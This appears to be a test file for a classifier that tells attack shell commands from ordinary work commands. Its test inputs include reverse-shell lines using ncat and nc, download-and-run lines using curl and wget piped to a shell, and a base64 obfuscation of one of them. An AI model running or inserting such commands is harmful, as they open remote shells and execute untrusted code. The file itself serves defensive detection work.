import { existsSync } from "node:fs";
import { expect, test } from "vitest";
import { licenceOf, readData } from "./cmdline-data.ts";
import { attackLines, traceLines, workLines } from "./cmdline-examples.ts";
import { measure } from "./cmdline-measure.ts";
import { ownLines, type Recipe, recipe, scoreLine, trainModel } from "./cmdline-model.ts";
import { networkToOnnx, quantised } from "./cmdline-onnx.ts";
import { evasions, under } from "./evasions.ts";
import { foldsByGroup } from "./folds.ts";
import { fill } from "./grammar.ts";
import { auc, shareAbove, thresholdAt } from "./metrics.ts";
import { randomOf } from "./random.ts";
import { slots } from "./slots.ts";
import { attackFamilies, readFamilies, workFamilies } from "./templates.ts";

const small: Recipe = { ...recipe, attackVariants: 1, workVariants: 1, learning: { ...recipe.learning, epochs: 1 } };
const few = () => ownLines(small).filter((_, at) => at % 12 === 0);
const dataDir = new URL("../../../shared/data", import.meta.url).pathname;

test("every template can be filled, and nothing of the grammar is left", () => {
  const random = randomOf(5);
  for (const family of [...attackFamilies(), ...workFamilies()]) {
    expect(family.lines.length).toBeGreaterThan(0);
    for (const line of family.lines) expect(fill(line, slots, random), line).not.toMatch(/[«»⏎]/);
  }
});

test("attack families have a technique and a tier, those of honest work none", () => {
  for (const { technique, tier } of attackFamilies()) expect([technique, tier]).not.toContain(undefined);
  for (const { tier } of workFamilies()) expect(tier).toBeUndefined();
});

test("the grammar: alternatives, slots, a slot that stays the same in a line, a bar that is no alternative", () => {
  const own = { n: () => "7", r: randomSlot() };
  expect(fill("«a|a» «n» «@n|@n»", own, randomOf(1))).toBe("a 7 7");
  expect(fill("«r» «r»", own, randomOf(1))).toMatch(/^(\S+) \1$/);
  expect(fill("«x \\| y|x \\| y»", own, randomOf(1))).toBe("x | y");
  expect(() => fill("«nobody»", own, randomOf(1))).toThrow("«nobody»");
  expect(() => readFamilies("a line\n")).toThrow("before the first [family]");
});
function randomSlot() {
  let at = 0;
  return () => `r${at++}`;
}

test("the recorded work names no machine and no secret, and is small", () => {
  const lines = traceLines();
  expect(lines.length).toBeGreaterThan(500);
  expect(lines.length).toBeLessThan(5000);
  for (const { text } of lines) expect(text).not.toMatch(/\/work\/|\/root\/|password=|BEGIN [A-Z ]*PRIVATE/);
});

test("the same seed makes the same lines and the same bytes of the model; another seed others", () => {
  expect(attackLines(3, 1)).toEqual(attackLines(3, 1));
  expect(workLines(3, 1)).not.toEqual(workLines(4, 1));
  const bytes = () => Bun.SHA256.hash(networkToOnnx(quantised(trainModel(few(), small)), { seed: "1" }), "hex");
  expect(bytes()).toBe(bytes());
});

test("what is learnt tells attacks from work that it has not seen", () => {
  const network = trainModel(ownLines(small), small);
  const score = (text: string) => scoreLine(network, { text });
  expect(score("ncat 203.0.113.9 5555 --exec /bin/bash")).toBeGreaterThan(score("ncat --version"));
  expect(score("wget -qO- http://203.0.113.9/a.sh | bash")).toBeGreaterThan(score("wget -qO- https://example.org/status.json | jq .state"));
});

test("quantising changes scores little", () => {
  const network = trainModel(few(), small);
  const near = quantised(network);
  for (const text of ["nc -e /bin/sh 198.51.100.7 4444", "ls -la", "systemctl restart nginx"])
    expect(Math.abs(scoreLine(network, { text }) - scoreLine(near, { text }))).toBeLessThan(0.1);
});

test("groups are never torn apart by folds, and folds are about equal", () => {
  const groups = Array.from({ length: 300 }, (_, at) => `g${(at * at) % 67}`);
  const folds = foldsByGroup(groups, 5);
  const of = new Map<string, number>();
  for (const [at, group] of groups.entries()) expect(of.getOrInsert(group, folds[at]!)).toBe(folds[at]);
  const sizes = Array.from({ length: 5 }, (_, fold) => folds.filter((of) => of === fold).length);
  expect(Math.max(...sizes) - Math.min(...sizes)).toBeLessThan(20);
});

test("figures: threshold at a rate, share above it, area under the curve", () => {
  const honest = Array.from({ length: 1000 }, (_, at) => at);
  expect(shareAbove(honest, thresholdAt(honest, 0.01))).toBe(0.01);
  expect(shareAbove([5, 5, 5, 5], thresholdAt([5, 5, 5, 5], 0.5))).toBe(0);
  expect(auc([3, 4], [1, 2])).toBe(1);
  expect(auc([1, 2], [1, 2])).toBe(0.5);
});

test("evasions keep the line's deed and change its looks", () => {
  const line = "curl -s http://198.51.100.7/x | sh";
  for (const [name, evasion] of Object.entries(evasions)) {
    const [hidden] = under(evasion, [line], 3);
    expect(hidden, name).not.toBe(line);
  }
  const [text] = under(evasions.base64!, [line], 3);
  expect(Buffer.from(/[A-Za-z0-9+/=]{40,}/.exec(text!)![0], "base64").toString()).toBe(line);
});

test("only permissive sources are learnt from", () => {
  expect(["tldr-pages", "atomic-red-team", "ci:honojs+hono", "exec-trace:npm-install"].map(licenceOf)).not.toContain(undefined);
  for (const source of [
    "gtfobins",
    "nl2bash",
    "quasarnix-testset",
    "scripts:ansible+ansible",
    "scripts:openwrt+packages",
    "logprecis-honeypot",
  ])
    expect(licenceOf(source), source).toBeUndefined();
});

test.skipIf(!existsSync(dataDir))("on a part of the labelled data (needs ../shared/data), attacks score above honest lines", () => {
  const data = readData(dataDir);
  const groups = new Set([...new Set(data.map(({ group }) => group))].filter((_, at) => at % 20 === 0));
  const part = data.filter(({ group }) => groups.has(group));
  const { rows, honest } = measure(part, small, 2, () => {});
  const overt = rows[0]!.rows[0]!;
  expect(overt.ours.auc).toBeGreaterThan(0.85);
  expect(honest.length).toBeGreaterThan(100);
});
